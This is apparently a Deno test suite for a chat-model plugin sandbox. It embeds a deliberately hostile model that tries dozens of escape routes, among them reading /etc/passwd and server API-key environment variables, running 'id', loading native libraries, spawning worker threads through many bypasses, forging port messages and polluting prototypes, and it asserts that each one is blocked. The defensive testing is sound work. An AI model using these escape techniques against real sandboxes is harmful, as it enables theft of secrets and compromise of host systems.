import { assert, assertEquals, assertRejects, assertStringIncludes } from "@std/assert";
import { ChatModelError, type LoadedChatModel } from "@chatmodel/chat-model";
import { join, toFileUrl } from "@std/path";
import { makeFolder } from "../_folder.ts";
import { request, sandboxed } from "./_sandbox.ts";

const ROOT = join(import.meta.dirname ?? "", "../../..");

/** Does whatever it is asked by name; "Hello" is the honest answer. */
const ATTACKER = `
import { EventEmitter } from "node:events";
import { createRequire } from "node:module";
import process from "node:process";
import { Worker as StaticWorker } from "node:worker_threads";
const KILLER = "process.kill(process.pid, 'SIGKILL')";
const load = (address: string, options?: ImportCallOptions) => import(address, options);
const attacks: Record<string, () => unknown> = {
  passwd: () => Deno.readTextFile("/etc/passwd"),
  nodePasswd: async () => (await load("node:fs")).readFileSync("/etc/passwd", "utf8"),
  env: () => Deno.env.get("HOME"),
  processEnv: async () => (await load("node:process")).default.env.HOME,
  allEnv: () => Object.keys(Deno.env.toObject()).length,
  keys: () => Deno.env.get("CHATMODEL_API_KEYS"),
  upstreamKey: async () => (await load("node:process")).default.env.CHATMODEL_UPSTREAM_API_KEY,
  fetch: async () => await (await fetch("http://example.invalid/")).text(),
  write: () => Deno.writeTextFile(new URL("./written.txt", import.meta.url), "x"),
  spawn: () => new Deno.Command("id").output(),
  nodeSpawn: async () => String((await load("node:child_process")).execSync("id")),
  sys: () => Deno.hostname(),
  ffi: () => Deno.dlopen("libc.so.6", {}) && "loaded",
  listen: () => { Deno.listen({ port: 0 }).close(); return "listened"; },
  importHttps: () => load("https://example.com/code.js"),
  importFile: () => load("file:///etc/passwd"),
  importJson: () => load("file:///etc/passwd", { with: { type: "json" } }),
  importText: async () => (await load("file:///etc/passwd", { with: { type: "text" } })).default,
  importData: async () =>
    (await load("data:text/javascript,export default () => Deno.readTextFileSync('/etc/passwd')")).default(),
  kill: () => Deno.kill(Deno.pid, "SIGTERM"),
  processKill: async () => (await load("node:process")).default.kill(Deno.pid, "SIGTERM"),
  namedKill: async () => (await load("node:process")).kill(Deno.pid, "SIGTERM"),
  chdir: () => Deno.chdir(new URL(".", import.meta.url)),
  signal: () => Deno.addSignalListener("SIGTERM", () => {}),
  nestedWorker: () => new Worker("data:text/javascript,for (;;);", { type: "module" }) && "made",
  inside: () => Reflect.get(Deno, Reflect.get(Deno, "internal"))?.core === undefined ? "none" : "found",

  threads: async () => new (await load("node:worker_threads")).Worker(KILLER, { eval: true }),
  bareThreads: async () => new (await load("worker_threads")).Worker(KILLER, { eval: true }),
  defaultThreads: async () => new (await load("node:worker_threads")).default.Worker(KILLER, { eval: true }),
  staticThreads: () => new StaticWorker(KILLER, { eval: true }),
  ownThreads: () => new (class extends StaticWorker {})(KILLER, { eval: true }),
  reflectThreads: () => Reflect.construct(StaticWorker, [KILLER, { eval: true }], EventEmitter),
  dataThreads: async () =>
    new (await load("data:text/javascript,export * from 'node:worker_threads'")).Worker(KILLER, { eval: true }),
  functionThreads: async () =>
    new (await new Function("return import('node:worker_threads')")()).Worker(KILLER, { eval: true }),
  requireThreads: () => new (createRequire(import.meta.url)("worker_threads").Worker)(KILLER, { eval: true }),
  builtinThreads: () => {
    const found: any = process.getBuiltinModule("node:worker_threads");
    return new found.Worker(KILLER, { eval: true });
  },
  loadThreads: async () =>
    new ((await load("node:module")).default.constructor.constructor("return process")()
      .getBuiltinModule("module")._load("worker_threads").Worker)(KILLER, { eval: true }),
  hookedThreads: async () => {
    const { registerHooks } = await load("node:module");
    const hooks = registerHooks({
      resolve: (name: string, context: object, next: (name: string, context: object) => object) =>
        name === "threads" ? { url: "node:worker_threads", shortCircuit: true } : next(name, context),
    });
    try {
      return new (await load("threads")).Worker(KILLER, { eval: true });
    } finally {
      hooks.deregister();
    }
  },
  rearmedThreads: () => {
    Reflect.setPrototypeOf(StaticWorker, EventEmitter);
    return new StaticWorker(KILLER, { eval: true });
  },
  vmThreads: async () => {
    const { Script, constants } = await load("node:vm");
    const importModuleDynamically = constants.USE_MAIN_CONTEXT_DEFAULT_LOADER;
    const found = await new Script("import('node:worker_threads')", { importModuleDynamically }).runInThisContext();
    return new found.Worker(KILLER, { eval: true });
  },
  binding: async () => (await load("node:process")).default.binding("worker"),
  umask: () => Deno.umask(0),
  processUmask: async () => (await load("node:process")).umask(0),
  processSignal: async () => (await load("node:process")).default.on("SIGUSR2", () => {}) && "listening",
  inspectorOpen: async () => (await load("node:inspector")).open(0, "127.0.0.1"),
  inspectorSession: async () => {
    const { Session } = await load("node:inspector");
    const session = new Session();
    session.connect();
    return await new Promise((resolve, reject) =>
      session.post("Runtime.evaluate", { expression: "1" }, (error: unknown, result: unknown) =>
        error ? reject(error) : resolve(JSON.stringify(result))));
  },
  clusterFork: async () => (await load("node:cluster")).default.fork(),
  hookedFile: async () => {
    const { registerHooks } = await load("node:module");
    registerHooks({
      resolve: (name: string, context: object, next: (name: string, context: object) => object) =>
        name === "secret" ? { url: "file:///etc/passwd", shortCircuit: true } : next(name, context),
    });
    return (await load("secret", { with: { type: "text" } })).default;
  },

  denoExit: () => Deno.exit(7),
  processExit: async () => (await load("node:process")).default.exit(7),
  namedExit: async () => (await load("node:process")).exit(7),
  close: async () => { self.close(); await new Promise(() => {}); },
  timer: async () => { setTimeout(() => { throw new Error("thrown in a timer"); }); await new Promise(() => {}); },
  rejection: async () => { Promise.reject(new Error("never handled")); await new Promise(() => {}); },
  stack: () => { const dive = (): number => dive() + 1; return dive(); },
  abort: async () => (await load("node:process")).default.abort(),
  loop: () => { for (;;); },
  freeze: () => { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); },
  forged: async () => { Reflect.apply(Reflect.get(self, "postMessage"), self, [{ type: "result", id: 1, value: "forged" }]); await new Promise(() => {}); },
  forgedShape: async () => { Reflect.apply(Reflect.get(self, "postMessage"), self, [5]); await new Promise(() => {}); },
  stolenPort: () => {
    const held = new WeakMap<object, unknown>();
    Object.defineProperty(MessageEvent.prototype, "data", {
      set(value) {
        held.set(this, value);
      },
      get() {
        const port = Reflect.get(this, "target");
        Reflect.apply(MessagePort.prototype.postMessage, port, [{ type: "result", id: 999_999, value: "forged" }]);
        Reflect.apply(MessagePort.prototype.postMessage, port, [{ type: "result", id: "1", value: "forged" }]);
        return held.get(this);
      },
    });
    return "stolen";
  },

  pollute: () => {
    Reflect.set(Object.prototype, "polluted", "yes");
    Reflect.set(Object.prototype, "status", 200);
    Reflect.set(globalThis, "fetch", undefined);
    return "polluted";
  },
  patchPorts: () => {
    MessagePort.prototype.postMessage = () => { throw new Error("patched"); };
    Reflect.set(EventTarget.prototype, "dispatchEvent", () => false);
    return "patched";
  },
};
export default class Attacker extends ChatModel {
  override async predict(_context: ModelContext, messages: readonly ChatMessage[]): Promise<string> {
    const attack = attacks[lastText(messages)];
    return attack === undefined ? "Hello" : "done: " + String(await attack());
  }
}
`;

async function failure(model: LoadedChatModel, attack: string): Promise<ChatModelError> {
  const error: unknown = await model.predict(request(attack)).then(
    ({ choices }) => new Error(`${attack} was let through: ${choices[0]?.message.content}`),
    (error) => error,
  );
  if (ChatModelError.isInstance(error)) return error;
  throw error;
}

Deno.test("loadModel() with sandbox refuses what the model did not declare, each with a clear error", async () => {
  await using sandbox = await sandboxed(ATTACKER);
  const expected: Record<string, string> = {
    passwd: 'Model "model" may not read "/etc/passwd": its package declares read access to its own folder. Log it with',
    nodePasswd: 'may not read "/etc/passwd"',
    env: 'may not read the environment variable "HOME": its package declares no env access',
    processEnv: 'may not read the environment variable "HOME"',
    write: "may not write",
    spawn: 'may not run "id": its package declares no run access',
    nodeSpawn: "may not read environment variables in general: its package declares no env access",
    sys: 'may not ask the system for "hostname"',
    ffi: "may not load the library",
    listen: "may not connect to",
    importHttps: 'may not import code from "example.com:443"',
    importFile: 'may not read "/etc/passwd"',
    importJson: 'may not read "/etc/passwd"',
    importText: 'may not read "/etc/passwd"',
    importData: 'may not read "/etc/passwd"',
    kill: "Deno.kill is not for models in a sandbox",
    processKill: "process.kill is not for models in a sandbox",
    namedKill: "process._kill is not for models in a sandbox",
    chdir: "Deno.chdir is not for models in a sandbox",
    signal: "Deno.addSignalListener is not for models in a sandbox",
    nestedWorker: "Worker is not for models in a sandbox",
    threads: "node:worker_threads' Worker is not for models in a sandbox",
    bareThreads: "node:worker_threads' Worker is not for models in a sandbox",
    defaultThreads: "node:worker_threads' Worker is not for models in a sandbox",
    staticThreads: "node:worker_threads' Worker is not for models in a sandbox",
    ownThreads: "node:worker_threads' Worker is not for models in a sandbox",
    reflectThreads: "node:worker_threads' Worker is not for models in a sandbox",
    dataThreads: "node:worker_threads' Worker is not for models in a sandbox",
    functionThreads: "node:worker_threads' Worker is not for models in a sandbox",
    requireThreads: "node:worker_threads' Worker is not for models in a sandbox",
    builtinThreads: "node:worker_threads' Worker is not for models in a sandbox",
    loadThreads: "node:worker_threads' Worker is not for models in a sandbox",
    hookedThreads: "node:worker_threads' Worker is not for models in a sandbox",
    rearmedThreads: "node:worker_threads' Worker is not for models in a sandbox",
    vmThreads: "node:worker_threads' Worker is not for models in a sandbox",
    binding: "process.binding is not for models in a sandbox",
    umask: "Deno.umask is not for models in a sandbox",
    processUmask: 'may not ask the system for "umask"',
    processSignal: "Deno.addSignalListener is not for models in a sandbox",
    inspectorOpen: "may not",
    inspectorSession: "may not",
    clusterFork: "may not",
    hookedFile: 'may not read "/etc/passwd"',
  };
  const directory = Deno.cwd();
  for (const [attack, message] of Object.entries(expected)) {
    const error = await failure(sandbox.model, attack);
    assertStringIncludes(error.message, message, attack);
    assertEquals([error.code, error.status], ["permission_denied", 500], attack);
    assert(!error.message.includes("\n") && !error.message.includes("root:"), error.message);
  }
  assertEquals(await sandbox.ask("inside"), "done: none");
  assertEquals(await sandbox.ask("Hi"), "Hello");
  assertEquals(Deno.cwd(), directory);
});

Deno.test("loadModel() with sandbox gives nothing of a kind that is declared as a whole", async () => {
  await using server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, () => new Response("inner"));
  const all = { net: true, env: true, read: true, write: true, run: true, sys: true, ffi: true };
  await using sandbox = await sandboxed(ATTACKER.replace("example.invalid", `127.0.0.1:${server.addr.port}`), {
    permissions: all,
  });
  const expected: Record<string, string> = {
    fetch: "may not connect to",
    env: 'may not read the environment variable "HOME"',
    allEnv: "may not read environment variables in general",
    passwd: 'may not read "/etc/passwd"',
    write: "may not write",
    spawn: 'may not run "id"',
    sys: 'may not ask the system for "hostname"',
    ffi: "may not load the library",
  };
  for (const [attack, message] of Object.entries(expected)) {
    const error = await failure(sandbox.model, attack);
    assertStringIncludes(error.message, message, attack);
    assertStringIncludes(error.message, " access, which a sandbox does not give. ", attack);
    assertStringIncludes(error.message, "--permissions", attack);
    assertEquals(error.code, "permission_denied", attack);
  }
});

Deno.test("loadModel() with sandbox lets nothing that the model prints reach standard output", async () => {
  await using author = await makeFolder({
    "model.ts": `import fs from "node:fs";
import process, { stdout } from "node:process";
import { Console } from "node:console";
import { ChatModel } from "@chatmodel/chat-model";
const forged = (by: string) => "forged by " + by + String.fromCharCode(10);
const bytes = (by: string) => new TextEncoder().encode(forged(by));
const ways: Record<string, () => unknown> = {
  log: () => console.log("logged by console.log"),
  table: () => console.table([{ shown: "by table" }]),
  deno: () => Deno.stdout.writeSync(bytes("Deno")),
  stream: () => Deno.stdout.writable.getWriter().write(bytes("stream")),
  process: () => process.stdout.write(forged("process")),
  named: () => stdout.write(forged("named")),
  console: () => new Console(stdout).log(forged("console")),
  fs: () => fs.writeSync(1, forged("fs")),
  file: () => fs.writeFileSync(1, forged("file")),
  input: () => Deno.stdin.readSync(new Uint8Array(5)),
  fsInput: () => fs.readSync(0, new Uint8Array(5)),
};
export default class extends ChatModel {
  override async predict() {
    const open: string[] = [];
    for (const [name, way] of Object.entries(ways)) {
      try { await way(); open.push(name); } catch { /* refused */ }
    }
    return open.join();
  }
}
`,
    "program.ts": `import { loadModel } from ${JSON.stringify(toFileUrl(join(ROOT, "models/mod.ts")).href)};
const stop = new AbortController();
const model = await loadModel("model.ts", { kind: "chat", sandbox: { signal: stop.signal } });
const { choices } = await model.predict({ messages: [{ role: "user", content: "Hi" }] });
console.log("let through:", choices[0]?.message.content);
stop.abort();
console.log("The program's own words");
`,
  });
  const args = ["run", "-A", "--no-check", "--quiet", "--unstable-worker-options", "--config", join(ROOT, "deno.json")];
  const command = new Deno.Command(Deno.execPath(), { args: [...args, "program.ts"], cwd: author.path });
  const { stdout, stderr } = await command.output();
  const errors = new TextDecoder().decode(stderr);
  const printed = new TextDecoder().decode(stdout).trimEnd().split("\n");
  assertEquals([printed.length, printed.at(-1)], [2, "The program's own words"], printed.join("\n") + errors);
  assertEquals(printed[0]?.split(",").filter((way) => /fs|file|input/i.test(way)), [], printed[0]);
  assertStringIncludes(errors, "logged by console.log");
  assertStringIncludes(errors, "by table");
});

Deno.test("loadModel() with sandbox keeps the server's secrets from a model that declares them by name", async () => {
  const env = ["HOME", "CHATMODEL_API_KEYS", "CHATMODEL_UPSTREAM_API_KEY", "CHATMODEL_*", "CHAT*"];
  await using sandbox = await sandboxed(ATTACKER, { permissions: { env } });
  assertEquals(await sandbox.ask("env"), `done: ${Deno.env.get("HOME")}`);
  for (const attack of ["keys", "upstreamKey"]) {
    const error = await failure(sandbox.model, attack);
    assertStringIncludes(error.message, "It is a secret of the server's, which no model in a sandbox gets");
    assertEquals(error.code, "permission_denied");
  }
});

Deno.test("loadModel() with sandbox lets the model call the hosts it declared, and no other", async () => {
  await using server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, () => new Response("answer"));
  await using other = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, () => new Response("secret"));
  await using sandbox = await sandboxed(
    `export default class extends ChatModel {
  override async predict(_context: ModelContext, messages: readonly ChatMessage[]) {
    return await (await fetch(lastText(messages))).text();
  }
}`,
    { permissions: { net: [`127.0.0.1:${server.addr.port}`], env: ["PATH"] } },
  );
  assertEquals(await sandbox.ask(`http://127.0.0.1:${server.addr.port}/`), "answer");
  const error = await failure(sandbox.model, `http://127.0.0.1:${other.addr.port}/`);
  assertStringIncludes(
    error.message,
    `may not connect to "127.0.0.1:${other.addr.port}": its package declares net access to "127.0.0.1:${server.addr.port}"`,
  );
  assertEquals(error.code, "permission_denied");
});

Deno.test("loadModel() with sandbox replaces a worker that ends itself or throws outside of a call", async () => {
  const expected: Record<string, string> = {
    denoExit: "Deno.exit()",
    processExit: "process.exit()",
    namedExit: "process.exit()",
    close: "self.close()",
    timer: "thrown in a timer",
    rejection: "never handled",
    forged: "it sent what is no message of a sandbox",
    forgedShape: "it sent what is no message of a sandbox",
  };
  const attacks = Object.entries(expected);
  // A sandbox is replaced three times a minute.
  for (let from = 0; from < attacks.length; from += 3) {
    await using sandbox = await sandboxed(ATTACKER);
    for (const [attack, message] of attacks.slice(from, from + 3)) {
      const error = await failure(sandbox.model, attack);
      assertEquals(error.code, "worker_crashed", `${attack}: ${error.message}`);
      assertStringIncludes(error.message, message, attack);
      assertEquals(await sandbox.ask("Hi"), "Hello", attack);
    }
  }
});

Deno.test("loadModel() with sandbox hands on what is thrown in a call, and keeps the worker", async () => {
  await using sandbox = await sandboxed(ATTACKER);
  const stack = await assertRejects(() => sandbox.ask("stack"), RangeError);
  assertStringIncludes(stack.message, "call stack");
  await assertRejects(() => sandbox.ask("abort"), TypeError, "process.abort() is not supported in workers");
  assertEquals(await sandbox.ask("Hi"), "Hello");
});

for (const attack of ["loop", "freeze"]) {
  Deno.test(`loadModel() with sandbox ends and replaces a worker that does not answer: ${attack}`, async () => {
    await using sandbox = await sandboxed(ATTACKER, { unresponsiveAfter: 500 });
    const waiting = sandbox.ask("Hi");
    const error = await failure(sandbox.model, attack);
    assertEquals([error.code, error.status, error.retryable], ["worker_unresponsive", 504, true]);
    assertEquals(await waiting, "Hello");
    assertEquals(await sandbox.ask("Hi"), "Hello");
  });
}

Deno.test("loadModel() with sandbox fails all running calls of a worker that crashes, and only those", async () => {
  await using sandbox = await sandboxed(ATTACKER);
  await using other = await sandboxed(ATTACKER);
  const results = await Promise.allSettled([sandbox.ask("timer"), sandbox.ask("timer"), other.ask("Hi")]);
  assertEquals(results.map(({ status }) => status), ["rejected", "rejected", "fulfilled"]);
  assertEquals(await sandbox.ask("Hi"), "Hello");
});

Deno.test("loadModel() with sandbox believes no message that is forged on the port of its worker", async () => {
  await using sandbox = await sandboxed(ATTACKER);
  assertEquals(await sandbox.ask("stolenPort"), "done: stolen");
  const error = await failure(sandbox.model, "Hi");
  assertEquals(error.code, "worker_crashed");
  assertStringIncludes(error.message, "it sent what is no message of a sandbox");
  assertEquals(await sandbox.ask("Hi"), "Hello");
});

Deno.test("loadModel() with sandbox does not replace a worker for ever that ends with each call", async () => {
  await using sandbox = await sandboxed(ATTACKER);
  for (let time = 0; time < 4; time++) assertEquals((await failure(sandbox.model, "denoExit")).code, "worker_crashed");
  const error = await failure(sandbox.model, "Hi");
  assertEquals([error.code, error.status, error.retryable], ["worker_backoff", 503, true]);
  assertStringIncludes(error.message, "ended 4 times in short order");
  assert(error.retryAfter !== undefined && error.retryAfter > 0 && error.retryAfter <= 60_000);
});

Deno.test("loadModel() with sandbox keeps what the model does to globals inside", async () => {
  await using sandbox = await sandboxed(ATTACKER, { unresponsiveAfter: 1_000 });
  assertEquals(await sandbox.ask("pollute"), "done: polluted");
  assertEquals(Reflect.get({}, "polluted"), undefined);
  assertEquals(typeof fetch, "function");
  const error = await failure(sandbox.model, "passwd");
  assertEquals([error.code, error.status], ["permission_denied", 500]);
  // It cuts itself off from its host: that costs it its worker, and nobody else anything.
  assertEquals(await sandbox.ask("patchPorts"), "done: patched");
  assertEquals((await failure(sandbox.model, "Hi")).code, "worker_unresponsive");
  assertEquals(await sandbox.ask("Hi"), "Hello");
});

Deno.test("loadModel() with sandbox refuses a file that imports what it may not read", async () => {
  const error = await assertRejects(
    () =>
      sandboxed(`import secret from "/etc/passwd" with { type: "json" };
export default class extends ChatModel { override predict() { return secret; } }`),
    ChatModelError,
    'Model "model" may not read "/etc/passwd"',
  );
  assertEquals(error.code, "permission_denied");
});

Deno.test("loadModel() with sandbox ends a worker whose file loops for ever while it is imported", async () => {
  const error = await assertRejects(
    () => sandboxed("for (;;);\nexport default class extends ChatModel {}", { unresponsiveAfter: 300 }),
    ChatModelError,
  );
  assertEquals(error.code, "worker_unresponsive");
});
